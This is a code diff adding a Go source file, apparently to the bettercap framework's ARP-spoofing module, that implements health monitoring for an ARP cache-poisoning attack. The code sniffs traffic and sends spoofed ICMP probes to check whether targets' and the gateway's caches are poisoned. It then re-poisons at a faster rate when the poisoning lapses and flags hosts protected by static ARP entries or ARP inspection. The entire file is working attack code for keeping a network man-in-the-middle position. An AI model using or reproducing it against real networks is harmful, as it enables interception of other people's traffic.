@@ -0,0 +1,296 @@
+package arp_spoof
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sort"
+	"strconv"
+	"time"
+
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	// the spoofing period shrinks down to this value while some cache is not poisoned
+	minSpoofInterval = 100 * time.Millisecond
+	// and grows back to this one once every cache is poisoned
+	maxSpoofInterval = 1 * time.Second
+	// identifier of our icmp probes
+	healthProbeID = 0xbca9
+)
+
+// the state of one ARP cache, either the one of a target or the entry of the target in the gateway cache
+type CacheHealth struct {
+	Poisoned     bool      `json:"poisoned"`
+	LastVerified time.Time `json:"last_verified"`
+	Failures     int       `json:"failures"`
+	Unpoisonable bool      `json:"unpoisonable"`
+}
+
+type TargetHealth struct {
+	Address string       `json:"address"`
+	MAC     string       `json:"mac"`
+	Target  *CacheHealth `json:"target"`
+	// only checked in full duplex mode
+	Gateway *CacheHealth `json:"gateway"`
+}
+
+type UnpoisonableEvent struct {
+	Address string `json:"address"`
+	MAC     string `json:"mac"`
+	// either "target" or "gateway"
+	Cache string `json:"cache"`
+}
+
+func (mod *ArpSpoofer) spoofInterval() time.Duration {
+	mod.healthLock.Lock()
+	defer mod.healthLock.Unlock()
+	return mod.interval
+}
+
+func (mod *ArpSpoofer) startHealthMonitor() {
+	var err error
+
+	filter := mod.healthFilter(nil)
+	if mod.healthHandle, err = pcap.OpenLive(mod.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		mod.Warning("can't monitor the poisoned caches: %v", err)
+		return
+	} else if err = mod.healthHandle.SetBPFFilter(filter); err != nil {
+		mod.Warning("can't monitor the poisoned caches: %v", err)
+		mod.healthHandle.Close()
+		mod.healthHandle = nil
+		return
+	}
+
+	mod.healthLock.Lock()
+	mod.healthBPF = filter
+	mod.health = make(map[string]*TargetHealth)
+	mod.lastProbe = time.Time{}
+	mod.healthLock.Unlock()
+
+	mod.State.Store("health", mod.health)
+
+	mod.waitGroup.Add(2)
+	go mod.healthReader()
+	go mod.healthChecker()
+}
+
+func (mod *ArpSpoofer) stopHealthMonitor() {
+	mod.healthLock.Lock()
+	defer mod.healthLock.Unlock()
+
+	if mod.healthHandle != nil {
+		mod.healthHandle.Close()
+		mod.healthHandle = nil
+	}
+}
+
+func (mod *ArpSpoofer) healthReader() {
+	defer mod.waitGroup.Done()
+
+	gwHW := mod.Session.Gateway.HW
+	src := gopacket.NewPacketSource(mod.healthHandle, mod.healthHandle.LinkType())
+	for pkt := range src.Packets() {
+		if !mod.Running() {
+			break
+		}
+
+		eth, okEth := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+		ip4, okIP := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
+		if !okEth || !okIP {
+			continue
+		}
+
+		mod.healthLock.Lock()
+		if t, found := mod.health[ip4.SrcIP.String()]; found && eth.SrcMAC.String() == t.MAC {
+			// the target is sending us traffic for someone else
+			mod.verified(t, t.Target, "target")
+		} else if t, found := mod.health[ip4.DstIP.String()]; found && t.Gateway != nil && bytes.Equal(eth.SrcMAC, gwHW) {
+			// the gateway is sending us traffic for the target
+			mod.verified(t, t.Gateway, "gateway")
+		}
+		mod.healthLock.Unlock()
+	}
+}
+
+func (mod *ArpSpoofer) verified(t *TargetHealth, c *CacheHealth, cache string) {
+	if c.Unpoisonable {
+		mod.Info("the %s cache of %s is poisoned again", cache, tui.Bold(t.Address))
+	}
+	c.Poisoned = true
+	c.Unpoisonable = false
+	c.Failures = 0
+	c.LastVerified = time.Now()
+}
+
+// returns true if the cache needs to be poisoned again
+func (mod *ArpSpoofer) evaluate(t *TargetHealth, c *CacheHealth, cache string) bool {
+	if mod.lastProbe.IsZero() || !c.LastVerified.Before(mod.lastProbe) {
+		return false
+	}
+
+	c.Poisoned = false
+	c.Failures++
+	if c.Failures >= mod.healthRetries && !c.Unpoisonable {
+		c.Unpoisonable = true
+
+		mod.Warning("the %s cache of %s (%s) can't be poisoned after %d attempts, static ARP entries or dynamic ARP inspection?",
+			cache,
+			tui.Bold(t.Address),
+			t.MAC,
+			c.Failures)
+
+		mod.Session.Events.Add("arp.spoof.unpoisonable", UnpoisonableEvent{
+			Address: t.Address,
+			MAC:     t.MAC,
+			Cache:   cache,
+		})
+	} else if !c.Unpoisonable {
+		mod.Debug("the %s cache of %s is not poisoned (%d/%d)", cache, t.Address, c.Failures, mod.healthRetries)
+	}
+
+	return true
+}
+
+func (mod *ArpSpoofer) probe(gwIP net.IP, gwHW net.HardwareAddr, targets map[string]net.HardwareAddr) {
+	ourHW := mod.Session.Interface.HW
+
+	mod.probeSeq++
+	for ip, mac := range targets {
+		addr := net.ParseIP(ip)
+		if addr.To4() == nil {
+			continue
+		}
+
+		// the target replies to the gateway address through its cache
+		if err, raw := packets.NewICMPEcho(gwIP, ourHW, addr, mac, healthProbeID, mod.probeSeq); err == nil {
+			mod.Session.Queue.Send(raw)
+		}
+
+		// and the gateway replies to the target address through its own
+		if mod.fullDuplex {
+			if err, raw := packets.NewICMPEcho(addr, ourHW, gwIP, gwHW, healthProbeID, mod.probeSeq); err == nil {
+				mod.Session.Queue.Send(raw)
+			}
+		}
+	}
+}
+
+func (mod *ArpSpoofer) healthChecker() {
+	defer mod.waitGroup.Done()
+
+	gwIP := mod.Session.Gateway.IP
+	gwHW := mod.Session.Gateway.HW
+	myMAC := mod.Session.Interface.HW
+
+	for mod.Running() {
+		targets := mod.getTargets(false)
+		repoison := false
+
+		mod.healthLock.Lock()
+		current := make(map[string]*TargetHealth)
+		for ip, mac := range targets {
+			if mod.isWhitelisted(ip, mac) || gwIP.String() == ip {
+				continue
+			}
+
+			t, found := mod.health[ip]
+			if !found {
+				t = &TargetHealth{
+					Address: ip,
+					MAC:     mac.String(),
+					Target:  &CacheHealth{},
+				}
+				if mod.fullDuplex {
+					t.Gateway = &CacheHealth{}
+				}
+			} else {
+				if mod.evaluate(t, t.Target, "target") {
+					repoison = true
+				}
+				if t.Gateway != nil && mod.evaluate(t, t.Gateway, "gateway") {
+					repoison = true
+				}
+			}
+			current[ip] = t
+		}
+		mod.health = current
+		mod.State.Store("health", mod.health)
+
+		if repoison {
+			if mod.interval /= 2; mod.interval < minSpoofInterval {
+				mod.interval = minSpoofInterval
+			}
+		} else if mod.interval *= 2; mod.interval > maxSpoofInterval {
+			mod.interval = maxSpoofInterval
+		}
+
+		mod.lastProbe = time.Now()
+		mod.healthLock.Unlock()
+
+		if repoison && mod.Running() {
+			mod.arpSpoofTargets(gwIP, myMAC, true, false)
+		}
+
+		mod.probe(gwIP, gwHW, targets)
+
+		// sleep in small steps to stop quickly
+		for slept := time.Duration(0); slept < mod.healthInterval && mod.Running(); slept += 100 * time.Millisecond {
+			time.Sleep(100 * time.Millisecond)
+		}
+	}
+}
+
+func cacheStatus(c *CacheHealth) string {
+	if c == nil {
+		return tui.Dim("-")
+	} else if c.Unpoisonable {
+		return tui.Red("unpoisonable")
+	} else if c.Poisoned {
+		return tui.Green("poisoned")
+	} else if c.LastVerified.IsZero() {
+		return tui.Dim("checking")
+	}
+	return tui.Yellow("lost (" + strconv.Itoa(c.Failures) + ")")
+}
+
+func (mod *ArpSpoofer) showHealth() error {
+	if !mod.Running() || !mod.healthCheck {
+		return fmt.Errorf("the ARP spoofer is not running or arp.spoof.health is disabled")
+	}
+
+	mod.healthLock.Lock()
+	defer mod.healthLock.Unlock()
+
+	rows := [][]string{}
+	for _, t := range mod.health {
+		seen := ""
+		if !t.Target.LastVerified.IsZero() {
+			seen = t.Target.LastVerified.Format("15:04:05")
+		}
+		rows = append(rows, []string{
+			tui.Bold(t.Address),
+			t.MAC,
+			cacheStatus(t.Target),
+			cacheStatus(t.Gateway),
+			seen,
+		})
+	}
+
+	sort.Slice(rows, func(i, j int) bool {
+		return rows[i][0] < rows[j][0]
+	})
+
+	tui.Table(mod.Session.Events.Stdout, []string{"Target", "MAC", "Target Cache", "Gateway Cache", "Verified"}, rows)
+	mod.Info("spoofing every %s", mod.interval)
+	mod.Session.Refresh()
+
+	return nil
+}